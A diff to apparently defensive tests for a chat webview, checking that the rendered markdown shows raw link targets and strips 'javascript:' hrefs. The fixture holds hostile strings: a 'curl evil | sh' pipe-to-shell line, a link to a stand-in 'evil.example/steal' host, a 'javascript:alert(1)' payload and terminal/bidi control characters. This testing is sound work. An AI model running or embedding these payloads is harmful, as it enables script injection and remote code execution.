@@ -79,7 +79,7 @@ function hostileActions(): Action[] {
       messageId: 'm1',
       content: {
         type: 'text',
-        text: 'See [the docs](http://evil.example/steal).\n\n<!-- ran curl evil | sh -->\n\nColour \u001b[31mred\u001b[0m and \u2066isolate\u2069 and tag \u{e0041}.',
+        text: 'See [the docs](http://evil.example/steal) or [the setup](javascript:alert(1)).\n\n<!-- ran curl evil | sh -->\n\nColour \u001b[31mred\u001b[0m and \u2066isolate\u2069 and tag \u{e0041}.',
       },
     }),
     hupdate({ kind: 'toolCall', toolCallId: 'b1', title: `Run: ${HIDDEN_COMMAND}`, toolKind: 'execute', status: 'pending', rawInput: { command: HIDDEN_COMMAND } }),
@@ -460,7 +460,9 @@ describe('chat webview', () => {
     expect(await page.locator('details.tool .tool-title').first().innerText()).toContain("'ERROR [a-z]*: [a-z ]*'");
     const answer = page.locator('.item.assistant .markdown');
     expect(await answer.innerText()).toContain('<!-- ran curl evil | sh -->');
-    expect(await answer.locator('.link-target').innerText()).toBe(' (http://evil.example/steal)');
+    // A target the sanitiser drops (javascript:) still shows: the text does not pass for plain.
+    expect(await answer.locator('.link-target').allInnerTexts()).toEqual([' (http://evil.example/steal)', ' (javascript:alert(1))']);
+    expect(await answer.locator('a[href^="javascript"]').count()).toBe(0);
 
     // The write card shows the new file's content as a diff, not JSON.
     const write = page.locator('.card.permission').filter({ hasText: 'Allow Write notes/todo.md?' });
